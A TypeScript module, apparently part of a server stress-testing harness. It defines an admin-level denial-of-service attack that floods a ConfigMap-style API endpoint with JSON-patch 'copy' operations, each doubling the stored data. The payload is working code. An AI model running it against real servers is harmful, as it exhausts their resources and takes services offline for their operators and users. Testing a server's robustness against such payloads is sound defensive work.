import { type Attack, configMap, configMaps, flood } from "../attack.ts";
import { createClient } from "../target.ts";

/** Each copy doubles what there is. */
const patch = JSON.stringify(
  Array.from({ length: 40 }, (_none, index) => ({ op: "copy", from: "/data", path: `/data/d${index}` })),
);

/** JSON patches that copy what they have copied. */
export const copyingPatches: Attack = {
  name: "JSON patches that copy copies",
  who: "admin",
  async run(attacker) {
    const client = createClient(attacker.target, "admin");
    await client.send({ method: "POST", path: configMaps, body: configMap("copied", { text: "x".repeat(10_000) }) });
    const headers = { "content-type": "application/json-patch+json" };
    await flood(attacker, {
      who: "admin",
      width: 4,
      ask: () => ({ method: "PATCH", path: `${configMaps}/copied`, headers, body: patch }),
    });
    client.close();
  },
};
